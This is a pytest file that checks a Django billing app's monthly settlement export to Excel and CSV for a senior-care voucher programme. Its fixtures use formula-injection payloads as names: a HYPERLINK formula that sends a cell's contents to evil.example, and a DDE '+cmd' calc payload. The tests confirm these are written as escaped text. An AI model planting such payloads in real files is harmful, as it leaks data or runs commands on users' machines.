"""The settlement workbook: what finance opens in Excel for approval."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.utils import translation
from openpyxl import Workbook, load_workbook

from billing import exports
from billing.errors import BillingError
from billing.exports import export_settlement
from billing.models import Statement
from billing.services import approve_statement, review_statement, settle
from config.months import SHANGHAI
from config.xlsx import text_cell
from tests.billing.conftest import MONTH, City
from tests.billing.test_settlement import make_finance
from vouchers.models import Redemption
from vouchers.services import void_redemption

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize("text", ["=1+1", "+86 138", "-2", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_text_that_looks_like_a_formula_is_a_quoted_string_cell(text):
    cell = text_cell(Workbook(write_only=True).create_sheet(), text)
    # The text is kept exactly, as a string (never <f>), with Excel's quote prefix
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_other_values_are_written_as_they_are():
    sheet = Workbook(write_only=True).create_sheet()
    for value in ("王秀英", "a=b", "", Decimal("-1.50"), -3, dt.datetime(2026, 10, 1, 8, 0)):
        cell = text_cell(sheet, value)
        assert cell.value == value and not cell.quotePrefix


@pytest.fixture
def settled_city(db):
    """October served and settled, with a senior, a provider and a staff member named like formulas."""
    city = City(senior_names={"paid": EVIL}, provider_names={"prov-b": "+cmd|' /C calc'!A0"})
    city.staff["prov-b"].display_name = "@SUM(1+1)"
    city.staff["prov-b"].save()
    city.serve(tier="subsidized", quantity="2")
    city.serve(tier="low_fee", quantity="1.5")
    city.serve(tier="low_fee", provider="prov-b", item="meal", quantity="3")
    city.serve(tier="paid", provider="prov-b", quantity="1", day=7)
    city.void(city.serve(tier="paid", item="meal", quantity="1", day=8))
    settle(month=MONTH, job="test")
    return city


def open_workbook(path_or_buffer):
    return load_workbook(path_or_buffer)


def rows_of(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_the_workbook_has_a_summary_and_a_detail_sheet_with_chinese_headers(settled_city, tmp_path):
    # when October is exported
    out = tmp_path / "2026-10.xlsx"
    summary = export_settlement(month=MONTH, out=str(out))

    # then it opens with 汇总 and 明细, Chinese headers and the header row frozen
    workbook = open_workbook(out)
    assert workbook.sheetnames == ["审批汇总", "汇总", "+cmd|' _C calc'!A0", "康乐家政A", "康乐家政C", "明细"]
    summary_sheet, detail_sheet = workbook["汇总"], workbook["明细"]
    assert rows_of(summary_sheet)[0] == [
        "服务商编码",
        "服务商名称",
        "服务类别",
        "服务项目",
        "核销笔数",
        "服务数量",
        "服务金额",
        "政府补贴",
        "个人自付",
    ]
    assert rows_of(detail_sheet)[0][:5] == ["核销编号", "服务商编码", "服务商名称", "服务时间", "老人姓名"]
    assert summary_sheet.freeze_panes == "A2"
    assert detail_sheet.freeze_panes == "A2"
    assert summary_sheet.column_dimensions["B"].width >= 20
    assert (summary.statements, summary.redemptions) == (3, 4)


def test_the_summary_totals_match_the_statements_to_the_fen(settled_city, tmp_path):
    # given a settled month exported
    out = tmp_path / "2026-10.xlsx"
    export_settlement(month=MONTH, out=out)
    rows = rows_of(open_workbook(out)["汇总"])

    # then the totals row equals the statements in the database, to the fen
    totals = rows[-1]
    statements = Statement.objects.filter(period__month=MONTH)
    assert totals[0] == "合计"
    assert totals[4] == sum(s.redemption_count for s in statements) == 4
    assert [Decimal(str(v)).quantize(Decimal("0.01")) for v in totals[6:9]] == [
        sum((getattr(s, f).amount for s in statements), Decimal("0.00"))
        for f in ("total_amount", "government_total", "senior_total")
    ]
    # and the lines add up to the totals row
    lines = rows[1:-1]
    for column in (6, 7, 8):
        assert sum(Decimal(str(row[column])) for row in lines) == Decimal(str(totals[column]))
    # and the zero statement of the provider that did no work is there
    zero_row = next(r for r in lines if r[0] == "prov-c")
    assert (zero_row[4], zero_row[6:9]) == (0, [0, 0, 0])


def test_summary_lines_show_tier_and_service_names(settled_city, tmp_path):
    out = tmp_path / "2026-10.xlsx"
    export_settlement(month=MONTH, out=out)
    lines = rows_of(open_workbook(out)["汇总"])[1:-1]
    by_key = {(r[0], r[2], r[3]): r for r in lines}
    # ¥40 × 1.5 h for the low-fee senior: 60.00 = 42.00 government + 18.00 co-pay
    low_fee_cleaning = by_key[("prov-a", "低偿", "助洁")]
    assert low_fee_cleaning[4:] == [1, 1.5, 60, 42, 18]


def test_money_cells_are_numbers_with_two_decimals(settled_city, tmp_path):
    out = tmp_path / "2026-10.xlsx"
    export_settlement(month=MONTH, out=out)
    workbook = open_workbook(out)
    summary_row = next(workbook["汇总"].iter_rows(min_row=2, max_row=2))
    for cell in summary_row[6:9]:
        assert cell.data_type == "n"
        assert cell.number_format == "#,##0.00"
    detail_row = next(workbook["明细"].iter_rows(min_row=2, max_row=2))
    for cell in detail_row[9:13]:
        assert cell.data_type == "n"
        assert cell.number_format == "#,##0.00"
    # served at: a Shanghai wall-clock date-time, not text
    assert isinstance(detail_row[3].value, dt.datetime)


def test_the_detail_lists_every_redemption_once_in_shanghai_time_voided_ones_marked(settled_city, tmp_path):
    out = tmp_path / "2026-10.xlsx"
    export_settlement(month=MONTH, out=out)
    header, *detail = rows_of(open_workbook(out)["明细"])

    # every redemption of the month is there once, the one voided in the month marked as such
    assert header[-1] == "撤销"
    ledger = Redemption.objects.filter(service_month=MONTH)
    assert sorted(row[0] for row in detail) == sorted(ledger.values_list("id", flat=True))
    voided = Redemption.objects.get(void__isnull=False)
    assert {row[0]: row[-1] for row in detail}[voided.pk] == "当月撤销"
    paid = [row for row in detail if row[-1] is None]
    assert sorted(row[0] for row in paid) == sorted(
        ledger.filter(void__isnull=True).values_list("id", flat=True)
    )
    # the scans were recorded at 10:00 Shanghai time
    assert {row[3].hour for row in detail} == {10}
    # and the services paid add up to the statements' total
    assert sum(Decimal(str(row[10])) for row in paid) == Decimal("225.00")


def test_names_that_look_like_formulas_are_written_as_text(settled_city, tmp_path):
    # given a senior, a provider and a staff member whose names start with = + @
    out = tmp_path / "2026-10.xlsx"
    export_settlement(month=MONTH, out=out)
    workbook = open_workbook(out)

    # then no cell is a formula but the approval summary's own SUMs, and those names are text
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert sheet.title == "审批汇总" and cell.value.startswith("=SUM("), cell.coordinate
    detail = rows_of(workbook["明细"])[1:]
    senior_names = {row[4] for row in detail}
    assert any(name.startswith("=") for name in senior_names)  # the masked =HYPERLINK… name
    assert {row[2] for row in detail if row[1] == "prov-b"} == {"+cmd|' /C calc'!A0"}
    assert {row[13] for row in detail if row[1] == "prov-b"} == {"@SUM(1+1)"}
    quoted = [
        cell for row in workbook["明细"].iter_rows() for cell in row if str(cell.value).startswith("+cmd")
    ]
    assert quoted and all(cell.quotePrefix for cell in quoted)


def test_one_provider_can_be_exported_alone(settled_city):
    # when only prov-b is exported, into memory (as the download does)
    buffer = io.BytesIO()
    summary = export_settlement(month=MONTH, out=buffer, provider_code="prov-b")

    # then both sheets hold only prov-b, and the totals are its statement's
    workbook = open_workbook(io.BytesIO(buffer.getvalue()))
    summary_rows = rows_of(workbook["汇总"])[1:-1]
    detail_rows = rows_of(workbook["明细"])[1:]
    assert {row[0] for row in summary_rows} == {"prov-b"}
    assert {row[1] for row in detail_rows} == {"prov-b"}
    statement = Statement.objects.get(period__month=MONTH, provider__code="prov-b")
    assert summary.total_amount == statement.total_amount
    assert (summary.statements, summary.redemptions) == (1, 2)


def test_an_unsettled_month_is_not_exported(db, tmp_path):
    with pytest.raises(BillingError) as refused:
        export_settlement(month=MONTH, out=tmp_path / "x.xlsx")
    assert refused.value.code == "period_not_settled"
    assert not (tmp_path / "x.xlsx").exists()


def test_an_unknown_provider_is_refused(settled_city, tmp_path):
    with pytest.raises(BillingError) as refused:
        export_settlement(month=MONTH, out=tmp_path / "x.xlsx", provider_code="nobody")
    assert refused.value.code == "not_found"


def test_the_detail_continues_on_a_new_sheet_past_the_row_limit(settled_city, tmp_path, monkeypatch):
    # given a (lowered) limit of three rows a sheet, header included
    monkeypatch.setattr(exports, "MAX_ROWS_PER_SHEET", 3)
    out = tmp_path / "2026-10.xlsx"
    export_settlement(month=MONTH, out=out)

    # then the five redemptions (one voided) run over 明细, 明细(2) and 明细(3), each with its header
    workbook = open_workbook(out)
    titles = [name for name in workbook.sheetnames if name.startswith("明细")]
    assert titles == ["明细", "明细(2)", "明细(3)"]
    sheets = [rows_of(workbook[title]) for title in titles]
    assert all(rows[0] == sheets[0][0] for rows in sheets)
    assert [len(rows) - 1 for rows in sheets] == [2, 2, 1]


def test_export_command_writes_the_workbook(settled_city, tmp_path, capsys):
    out = tmp_path / "oct.xlsx"
    call_command("export_settlement", "--period", "2026-10", "--out", str(out), "--provider", "prov-a")
    printed = capsys.readouterr().out
    assert "2 redemptions" in printed
    assert "total 140.00 CNY" in printed
    assert {row[1] for row in rows_of(open_workbook(out)["明细"])[1:]} == {"prov-a"}


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--period", "2026-13"], "YYYY-MM"),
        (["--period", "2026-09"], "has not been settled"),
        (["--period", "2026-10", "--provider", "nobody"], "nobody"),
    ],
)
def test_export_command_refuses_with_a_clear_message(settled_city, tmp_path, arguments, message):
    with translation.override("en"), pytest.raises(CommandError, match=message):
        call_command("export_settlement", *arguments, "--out", str(tmp_path / "x.xlsx"))


def test_settle_command_prints_a_summary(db, capsys):
    # given October served
    city = City()
    city.serve(tier="low_fee", quantity="1.5")

    # when finance settles it from the command line
    with translation.override("en"):
        call_command("settle", "--period", "2026-10")

    # then it says what was settled
    printed = capsys.readouterr().out
    assert "3 provider statements" in printed
    assert "1 redemptions" in printed
    assert "total 60.00 CNY (government 42.00, seniors 18.00)" in printed

    assert Statement.objects.filter(prepared_by_job="manage.py settle").count() == 3

    # and a second run, by a finance user, drafts the same figures under their name
    fin = make_finance("fin")
    make_finance("fin2")
    with translation.override("en"):
        call_command("settle", "--period", "2026-10", "--by", "fin")
    assert "total 60.00 CNY (government 42.00, seniors 18.00)" in capsys.readouterr().out
    assert Statement.objects.filter(prepared_by=fin).count() == 3

    # and the preparer cannot approve, a second finance user can, after which it is not settled again
    with translation.override("en"):
        call_command("review_settlement", "--period", "2026-10", "--provider", "prov-a", "--by", "fin")
        with pytest.raises(CommandError, match="four_eyes"):
            call_command("approve_settlement", "--period", "2026-10", "--provider", "prov-a", "--by", "fin")
        call_command("approve_settlement", "--period", "2026-10", "--provider", "prov-a", "--by", "fin2")
        assert "approved by fin2; payment due" in capsys.readouterr().out
        with pytest.raises(CommandError, match="is approved"):
            call_command("settle", "--period", "2026-10", "--by", "fin")


def test_settle_command_refuses_a_month_that_has_not_ended(db):
    today = dt.datetime.now(SHANGHAI)
    with translation.override("en"), pytest.raises(CommandError, match="has not ended"):
        call_command("settle", "--period", f"{today:%Y-%m}")
    with pytest.raises(CommandError, match="YYYY-MM"):
        call_command("settle", "--period", "October")


def test_the_csv_detail_lists_every_redemption_with_voids_marked(settled_city, tmp_path):
    # given a settled October (one of its services voided in the month)
    path = tmp_path / "detail.csv"

    # when its detail is written as CSV
    written = exports.export_detail_csv(month=MONTH, out=str(path))

    # then it starts with a byte order mark, has every redemption once, the voided one marked
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][0] == "核销编号" and rows[0][-1] == "撤销"
    ledger = Redemption.objects.filter(service_month=MONTH)
    assert written == len(rows) - 1 == ledger.count()
    assert sorted(int(row[0]) for row in rows[1:]) == sorted(ledger.values_list("id", flat=True))
    voided = {int(row[0]) for row in rows[1:] if row[-1] == "当月撤销"}
    assert voided == set(ledger.filter(void__isnull=False).values_list("id", flat=True))
    assert voided


def test_a_formula_in_the_csv_is_text(db, tmp_path):
    assert exports._csv_text("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert exports._csv_text("张三") == "张三"


def test_the_sheets_print_on_a4_landscape_with_the_month_and_the_header_on_every_page(settled_city, tmp_path):
    out = tmp_path / "2026-10.xlsx"
    export_settlement(month=MONTH, out=out)
    for sheet in open_workbook(out).worksheets[1:]:
        assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == ("landscape", 9)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        # fit to one page's width (1 is the file format's default, which XlsxWriter leaves out)
        assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.print_title_rows == "$1:$1"
        assert "2026年10月" in sheet.oddHeader.center.text


def test_the_approval_summary_has_a_title_a_row_per_provider_sum_formulas_and_signatures(
    settled_city, tmp_path, finance_user
):
    # given a settled October whose provider A statement was reviewed and approved
    a = Statement.objects.get(period__month=MONTH, provider__code="prov-a")
    review_statement(statement_id=a.pk, by=finance_user)
    approve_statement(statement_id=a.pk, by=make_finance("sun"))
    out = tmp_path / "2026-10.xlsx"
    export_settlement(month=MONTH, out=out, provider_code="prov-a")

    # then the first sheet has the title, the provider by name, SUM formulas and signature lines
    sheet = open_workbook(out)["审批汇总"]
    rows = rows_of(sheet)
    assert "2026年10月" in rows[0][0] and "民政局" in rows[0][0]
    assert rows[3][:4] == ["序号", "服务商名称", "状态", "核销笔数"]
    provider_row = rows[4]
    assert (provider_row[1], provider_row[2], provider_row[3]) == (
        a.provider.name,
        "已审批",
        a.redemption_count,
    )
    assert Decimal(str(provider_row[6])) == a.total_amount.amount
    assert rows[5][0] == "合计" and rows[5][6] == "=SUM(G5:G5)"
    assert sheet.print_title_rows == "$1:$4"
    texts = [row[0] for row in rows if row and isinstance(row[0], str)]
    assert any(text.startswith("编制人：test") for text in texts)
    assert any(text.startswith("复核人：finance-tester") for text in texts)
    assert any(text.startswith("审批人：sun") for text in texts)


def test_each_provider_has_its_own_sheet_with_lines_and_adjustments(settled_city, tmp_path):
    # given a service of October voided in November (an adjustment of provider A's November)
    november = dt.date(2026, 11, 1)
    served = Redemption.objects.filter(provider__code="prov-a", void__isnull=True).first()
    void_redemption(
        redemption_id=served.pk,
        reason="服务未发生",
        user=settled_city.staff["prov-a"].user,
        now=dt.datetime(2026, 11, 3, tzinfo=SHANGHAI),
    )
    settle(month=november, job="test", now=dt.datetime(2026, 12, 1, 9, tzinfo=SHANGHAI))

    # when November is exported
    out = tmp_path / "2026-11.xlsx"
    export_settlement(month=november, out=out, provider_code="prov-a")

    # then provider A's sheet has its adjustment line, the total, and the adjustment itself
    rows = rows_of(open_workbook(out)["康乐家政A"])
    assert rows[0][:3] == ["类型", "服务类别", "服务项目"]
    assert [row[0] for row in rows[1:3]] == ["调整", "合计"]
    assert Decimal(str(rows[2][6])) == -served.amount.amount
    assert rows[4][:4] == ["调整日期", "核销编号", "调整类型", "原因"]
    assert (rows[5][1], rows[5][3], Decimal(str(rows[5][4]))) == (
        served.pk,
        "服务未发生",
        -served.amount.amount,
    )


def test_sheet_titles_are_what_excel_accepts():
    taken = set()
    assert exports._sheet_title("康乐[家政]:A/B", taken) == "康乐_家政__A_B"
    assert exports._sheet_title("康乐[家政]:A/B", taken) == "康乐_家政__A_B(2)"
    assert len(exports._sheet_title("长" * 40, taken)) == 31


def test_the_workbook_keeps_the_names_the_month_was_settled_with(settled_city, tmp_path, finance_user):
    # given October's statement of provider A approved, then the provider and the item renamed
    from django.db import IntegrityError, connection, transaction

    statement = Statement.objects.get(period__month=MONTH, provider__code="prov-a")
    review_statement(statement_id=statement.pk, by=finance_user)
    approve_statement(statement_id=statement.pk, by=make_finance("sun"))
    provider = statement.provider
    provider.name = "改名后的家政公司"
    provider.save()
    settled_city.cleaning.name = "改名后的项目"
    settled_city.cleaning.save()

    # when the month is exported
    out = tmp_path / "2026-10.xlsx"
    export_settlement(month=MONTH, out=out, provider_code="prov-a")

    # then every sheet shows the names as settled
    workbook = open_workbook(out)
    assert "康乐家政A" in workbook.sheetnames and "改名后的家政公司" not in workbook.sheetnames
    text = {str(cell) for sheet in workbook.worksheets for row in rows_of(sheet) for cell in row}
    assert "康乐家政A" in text and "助洁" in text
    assert not {"改名后的家政公司", "改名后的项目"} & text
    # and on PostgreSQL the approved statement's name cannot be changed either
    if connection.vendor == "postgresql":
        with pytest.raises(IntegrityError), transaction.atomic():
            Statement.objects.filter(pk=statement.pk).update(provider_name="别的名字")
